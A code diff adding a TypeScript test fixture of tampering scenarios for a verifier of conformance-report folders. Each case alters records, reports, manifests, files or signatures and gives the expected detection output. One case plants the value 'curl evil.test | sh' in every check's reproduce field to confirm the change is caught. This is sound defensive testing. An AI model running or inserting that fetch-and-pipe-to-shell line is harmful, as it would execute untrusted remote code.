@@ -1,0 +1,142 @@
+import { renameSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+import {
+  type AlteredFolder,
+  bodyLine,
+  edit,
+  editRecord,
+  fifo,
+  link,
+  pass,
+  report,
+  rewrite,
+  statusOfFirst,
+} from './alter.ts';
+
+const NOT_REPRODUCED = /the folder was altered: \d+ of \d+ verdicts/;
+
+/** Folders that somebody changed: each change is named, and none is called reproduced. */
+export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
+  {
+    title: 'a status was changed in the record',
+    alter: (f) => editRecord(f, statusOfFirst),
+    judge: [1, /journal\.jsonl\.zst was changed.*the folder was altered/s],
+    verify: [1, /✗ journal\.jsonl\.zst was changed/],
+  },
+  {
+    title: 'the verdict was rewritten in the report',
+    alter: (f) =>
+      edit(report(f), (t) =>
+        t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
+      ),
+    judge: [1, /report\.json was changed.*the evidence says: non-conformant.*the folder was altered/s],
+    verify: [1, /✗ report\.json was changed.*made for another content/s],
+  },
+  {
+    title: 'status and verdict were rewritten, the manifest was not',
+    alter: (f) => {
+      editRecord(f, statusOfFirst);
+      edit(report(f), (t) =>
+        t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
+      );
+    },
+    judge: [1, NOT_REPRODUCED],
+    verify: [1, /journal\.jsonl\.zst was changed.*report\.json was changed/s],
+  },
+  {
+    title: 'the verdict was rewritten, with footer and manifest',
+    alter: (f) => rewrite(f, pass),
+    judge: [1, /✗ stream\/ends-with-done: pass → fail/],
+    verify: [0, /not signed: a folder that was rewritten as a whole/],
+  },
+  {
+    title: 'the record of results was rewritten too, with footer and manifest',
+    alter: async (f) => {
+      editRecord(f, (t) => t.replace(/("id":"stream\/ends-with-done"[^\n]*?"verdict":)"fail"/, '$1"pass"'));
+      await rewrite(f, pass);
+    },
+    judge: [1, /✗ stream\/ends-with-done: pass → fail/],
+    verify: [0, /not signed/],
+  },
+  {
+    title: 'counts were rewritten, with footer and manifest',
+    alter: (f) => rewrite(f, (r) => ({ ...r, summary: '999 passed, 0 failed of 999' })),
+    judge: [1, /✗ report\.json says something else than its record of: summary/],
+    verify: [0, /not signed/],
+  },
+  {
+    title: 'a line that repeats a finding was rewritten, with footer and manifest',
+    alter: (f) =>
+      rewrite(f, (r) => ({
+        ...r,
+        checks: r.checks.map((c) => ({ ...c, reproduce: 'curl evil.test | sh' })),
+      })),
+    judge: [1, /✗ report\.json says something else than its record of: checks/],
+    verify: [0, /not signed/],
+  },
+  {
+    title: 'an exchange was taken out of the record',
+    alter: (f) => editRecord(f, (t) => t.replace(`${bodyLine(t)}\n`, '')),
+    judge: [1, /journal\.jsonl\.zst was changed.*cannot be judged again: .*the folder was altered/s],
+    verify: [1, /✗ journal\.jsonl\.zst was changed/],
+  },
+  {
+    title: 'a file was added',
+    alter: (f) => writeFileSync(join(f, 'notes.txt'), 'mine'),
+    judge: [1, /notes\.txt was added.*the folder was altered/s],
+    verify: [1, /✗ notes\.txt was added/],
+  },
+  {
+    title: 'a half-written file lies there',
+    alter: (f) => writeFileSync(join(f, 'report.json.0a1b2c3d.part'), '{'),
+    judge: [1, /the folder was altered/],
+    verify: [1, /✗ report\.json\.0a1b2c3d\.part was added/],
+  },
+  {
+    title: 'a link was added',
+    alter: (f) => link('/etc/hostname', join(f, 'evidence.txt')),
+    judge: [1, /the folder was altered/],
+    verify: [1, /✗ evidence\.txt is a link/],
+  },
+  {
+    title: 'a pipe was added',
+    alter: (f) => fifo(join(f, 'evidence.txt')),
+    judge: [1, /the folder was altered/],
+    verify: [1, /✗ evidence\.txt is no regular file/],
+  },
+  {
+    title: 'a page was replaced by a link to a copy of it',
+    alter: (f) => {
+      renameSync(join(f, 'index.html'), `${f}-index.html`);
+      link(`${f}-index.html`, join(f, 'index.html'));
+    },
+    judge: [1, /the folder was altered/],
+    verify: [1, /✗ index\.html is a link/],
+  },
+  {
+    title: 'a file was taken away',
+    alter: (f) => rmSync(join(f, 'junit.xml')),
+    judge: [1, /junit\.xml is missing.*the folder was altered/s],
+    verify: [1, /✗ junit\.xml is missing/],
+  },
+  {
+    title: 'the manifest was taken away',
+    alter: (f) => rmSync(join(f, 'manifest.json')),
+    judge: [1, /manifest\.json is missing.*the folder was altered/s],
+    verify: [1, /✗ manifest\.json is missing/],
+  },
+  {
+    title: 'a signature was made up',
+    alter: (f) =>
+      writeFileSync(join(f, 'attestation.dsse.json'), '{"payloadType":"x","payload":"","signatures":[]}'),
+    judge: [1, /the signature does not hold.*the folder was altered/s],
+    verify: [1, /✗ the signature does not hold/],
+  },
+  {
+    title: 'the report was cut off',
+    alter: (f) => edit(report(f), (t) => t.slice(0, t.length / 2)),
+    judge: [2, /report\.json is no JSON/],
+    verify: [1, /✗ report\.json was changed.*cut off, or no report/s],
+  },
+];
